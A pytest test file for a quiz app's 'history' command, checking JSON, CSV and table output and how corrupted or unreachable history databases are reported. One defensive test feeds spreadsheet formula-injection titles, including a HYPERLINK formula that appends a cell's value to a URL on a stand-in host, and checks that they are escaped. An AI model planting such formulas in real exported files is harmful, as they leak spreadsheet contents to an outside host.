"""``ptquiz history``: the JSON, CSV and table a script or a person reads."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from helpers.sample import answer, answer_right, answer_wrong, make_bank

from ptquiz_gui.cli import main
from ptquiz_gui.domain.attempt import Attempt
from ptquiz_gui.domain.clock import FakeClock
from ptquiz_gui.domain.plan import Mode, plan_for_bank
from ptquiz_gui.paths import data_paths
from ptquiz_gui.storage.history import History
from ptquiz_gui.storage.schema import SCHEMA_VERSION

REPO = Path(__file__).resolve().parent.parent


def _history(data_dir: Path) -> tuple[Attempt, Attempt]:
    """A finished practice run of alpha and an exam of beta left in progress."""
    clock = FakeClock(datetime(2026, 2, 3, 14, 30, tzinfo=UTC))
    store = History.open(data_paths(data_dir).history_db, clock=clock)
    practice = Attempt(plan_for_bank(make_bank("alpha", 3), Mode.PRACTICE, seed=4), clock, store.recorder)
    clock.advance(12.5)
    answer_right(practice)
    practice.next()
    clock.advance(3)
    answer_wrong(practice)
    practice.finish()  # the third question is left unanswered
    clock.advance(60)
    exam = Attempt(plan_for_bank(make_bank("beta", 2), Mode.EXAM, seed=4), clock, store.recorder)
    clock.advance(5)
    answer(exam, 3)
    exam.suspend()
    store.close()
    return practice, exam


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_json_lists_every_attempt_with_its_answers(
    data_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    practice, exam = _history(data_dir)
    code, out, err = _run(capsys, "--data-dir", str(data_dir), "history", "--json")
    assert code == 0 and err == ""
    body = json.loads(out)
    assert list(body) == ["attempts"]
    first, second = body["attempts"]
    assert first == {
        "id": practice.attempt_id,
        "bank_id": "alpha",
        "mode": "practice",
        "started_at": "2026-02-03T14:30:00+00:00",
        "finished_at": "2026-02-03T14:30:15+00:00",
        "status": "finished",
        "score": 1,
        "total": 3,
        "answers": [
            {
                "question_id": item.question.id,
                "choice": state.choice,
                "choices": [] if state.choice is None else [state.choice],
                "correct": state.choice == item.question.answer,
                "seconds": state.seconds,
            }
            for item, state in zip(practice.plan.items, practice.answers, strict=True)
        ],
    }
    assert [a["seconds"] for a in first["answers"]] == [12.5, 3.0, 0.0]
    assert first["answers"][2]["choice"] is None and first["answers"][2]["correct"] is False
    assert second["id"] == exam.attempt_id and second["status"] == "in_progress"
    assert second["finished_at"] is None and second["score"] is None and second["total"] == 2
    assert second["answers"][0] == {
        "question_id": exam.plan.items[0].question.id,
        "choice": 3,
        "choices": [3],
        "correct": exam.plan.items[0].question.answer == 3,
        "seconds": 5.0,
    }


def test_bank_filter(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _history(data_dir)
    _, out, _ = _run(capsys, "--data-dir", str(data_dir), "history", "--json", "--bank", "beta")
    assert [a["bank_id"] for a in json.loads(out)["attempts"]] == ["beta"]
    _, out, _ = _run(capsys, "--data-dir", str(data_dir), "history", "--csv", "--bank", "nothing")
    assert out.splitlines() == [
        "id,bank_id,title,mode,status,started_at,finished_at,score,total,percent,seconds"
    ]


def test_a_title_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    data_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from dataclasses import replace

    clock = FakeClock(datetime(2026, 2, 3, 14, 30, tzinfo=UTC))
    store = History.open(data_paths(data_dir).history_db, clock=clock)
    titles = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-x", "@SUM(A1)", "Plain = fine"]
    for number, title in enumerate(titles):
        bank = replace(make_bank(f"b{number}", 1), title=title)
        Attempt(plan_for_bank(bank, Mode.PRACTICE, seed=1), clock, store.recorder).finish()
    store.close()
    _, out, _ = _run(capsys, "--data-dir", str(data_dir), "history", "--csv")
    shown = sorted(row["title"] for row in csv.DictReader(io.StringIO(out)))
    assert shown == sorted(["'" + t for t in titles[:4]] + ["Plain = fine"])


def test_csv_has_a_header_and_one_row_per_attempt(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    practice, exam = _history(data_dir)
    code, out, _ = _run(capsys, "--data-dir", str(data_dir), "history", "--csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows == [
        {
            "id": str(practice.attempt_id),
            "bank_id": "alpha",
            "title": "Bank alpha",
            "mode": "practice",
            "status": "finished",
            "started_at": "2026-02-03T14:30:00+00:00",
            "finished_at": "2026-02-03T14:30:15+00:00",
            "score": "1",
            "total": "3",
            "percent": "33.3",
            "seconds": "15.5",
        },
        {
            "id": str(exam.attempt_id),
            "bank_id": "beta",
            "title": "Bank beta",
            "mode": "exam",
            "status": "in_progress",
            "started_at": "2026-02-03T14:31:15+00:00",
            "finished_at": "",
            "score": "",
            "total": "2",
            "percent": "",
            "seconds": "5.0",
        },
    ]


def test_plain_output_is_a_readable_table(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _history(data_dir)
    code, out, _ = _run(capsys, "--data-dir", str(data_dir), "history")
    assert code == 0
    header, first, second = out.splitlines()
    assert header.split() == ["ID", "STARTED", "BANK", "MODE", "STATUS", "SCORE", "TIME"]
    assert "alpha" in first and "practice" in first and "Not passed" in first and "1/3 33.3%" in first
    assert first.endswith("00:15")  # 15.5 s used: whole seconds gone, as History and Results show it
    assert "beta" in second and "exam" in second and "In progress" in second and "1/2 answered" in second
    assert header.index("BANK") == first.index("alpha") == second.index("beta")


def test_a_missing_history_prints_an_empty_history_and_creates_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "never-used"
    assert _run(capsys, "--data-dir", str(folder), "history", "--json")[:2] == (0, '{"attempts": [\n]}\n')
    assert json.loads(_run(capsys, "--data-dir", str(folder), "history", "--json")[1]) == {"attempts": []}
    code, out, _ = _run(capsys, "--data-dir", str(folder), "history")
    assert code == 0 and out.splitlines()[-1] == "(no attempts)"
    assert not folder.exists()


def test_reading_never_changes_the_history_file(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _history(data_dir)
    path = data_paths(data_dir).history_db
    before = (path.read_bytes(), path.stat().st_mtime_ns)
    for flag in ("--json", "--csv", None):
        _run(capsys, "--data-dir", str(data_dir), "history", *([flag] if flag else []))
    assert (path.read_bytes(), path.stat().st_mtime_ns) == before


def test_reads_while_the_app_is_writing(data_dir: Path) -> None:
    """A running ptquiz holds the file open mid-attempt; the command sees every committed answer
    and the app goes on writing afterwards."""
    clock = FakeClock()
    store = History.open(data_paths(data_dir).history_db, clock=clock)
    try:
        attempt = Attempt(plan_for_bank(make_bank("alpha", 3), Mode.EXAM, seed=2), clock, store.recorder)
        answer(attempt, 2)
        env = {**os.environ, "PYTHONPATH": str(REPO)}
        done = subprocess.run(
            [sys.executable, "-m", "ptquiz_gui", "--data-dir", str(data_dir), "history", "--json"],
            capture_output=True,
            text=True,
            env=env,
            timeout=120,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        [seen] = json.loads(done.stdout)["attempts"]
        assert seen["status"] == "in_progress" and seen["answers"][0]["choice"] == 2
        attempt.next()
        answer(attempt, 1)
        attempt.finish()
        assert store.recorder.pending_count == 0
    finally:
        store.close()


def test_a_history_from_a_newer_ptquiz_is_reported_and_left_alone(
    data_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _history(data_dir)
    path = data_paths(data_dir).history_db
    conn = sqlite3.connect(str(path), isolation_level=None)
    conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 3}")
    conn.close()
    before = path.read_bytes()
    code, out, err = _run(capsys, "--data-dir", str(data_dir), "history", "--json")
    assert code == 1 and out == ""
    assert str(path) in err and "newer version of ptquiz" in err and "Traceback" not in err
    assert path.read_bytes() == before


def test_a_damaged_history_is_reported_and_not_moved(
    data_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = data_paths(data_dir).history_db
    path.write_text("not a database at all\n" * 20, encoding="utf-8")
    code, out, err = _run(capsys, "--data-dir", str(data_dir), "history", "--csv")
    assert code == 1 and out == ""
    assert str(path) in err and "damaged" in err
    assert path.read_text(encoding="utf-8").startswith("not a database")
    assert sorted(p.name for p in data_dir.iterdir()) == ["history.sqlite3"]


def test_a_history_with_corrupted_pages_says_damaged_once_and_what_is_wrong(
    data_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _history(data_dir)
    path = data_paths(data_dir).history_db
    data = bytearray(path.read_bytes())
    page = 4096
    for offset in range(page, len(data), page):  # every page after the header's
        data[offset : offset + 100] = b"\xff" * 100
    path.write_bytes(bytes(data))

    code, out, err = _run(capsys, "--data-dir", str(data_dir), "history")

    assert code == 1 and out == ""
    assert err == (
        f"ptquiz history: The history file {path} is damaged: SQLite found parts of it corrupted "
        "(database disk image is malformed).\n"
    )


def test_a_history_that_cannot_be_reached_is_not_reported_as_a_save_failure(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    blocker = tmp_path / "data"
    blocker.write_text("a file where the data folder should be")

    code, out, err = _run(capsys, "--data-dir", str(blocker), "history", "--json")

    assert code == 1 and out == ""
    assert err == (
        f"ptquiz history: cannot read the history in {blocker / 'history.sqlite3'}: "
        f"{blocker} is a file where a folder should be.\n"
    )


@pytest.mark.parametrize(
    ("damage", "fault"),
    [
        ("UPDATE attempts SET started_at = 'x' WHERE id = 2", "Invalid isoformat string: 'x'"),
        ("UPDATE attempt_items SET choices = 'garbage' WHERE attempt_id = 1", "Expecting value"),
    ],
)
def test_a_record_no_ptquiz_wrote_is_reported_without_a_traceback(
    data_dir: Path, capsys: pytest.CaptureFixture[str], damage: str, fault: str
) -> None:
    """Hostile round 2: a value SQLite accepts but no ptquiz wrote (a bit flipped inside a
    time, a hand edit) ended ``history --json`` in a traceback."""
    _history(data_dir)
    path = data_paths(data_dir).history_db
    conn = sqlite3.connect(str(path))
    conn.execute(damage)
    conn.commit()
    conn.close()
    code, _out, err = _run(capsys, "--data-dir", str(data_dir), "history", "--json")
    assert code == 1
    assert err.startswith(f"ptquiz history: cannot read the history in {path}: a record in it is damaged (")
    assert fault in err and "Traceback" not in err
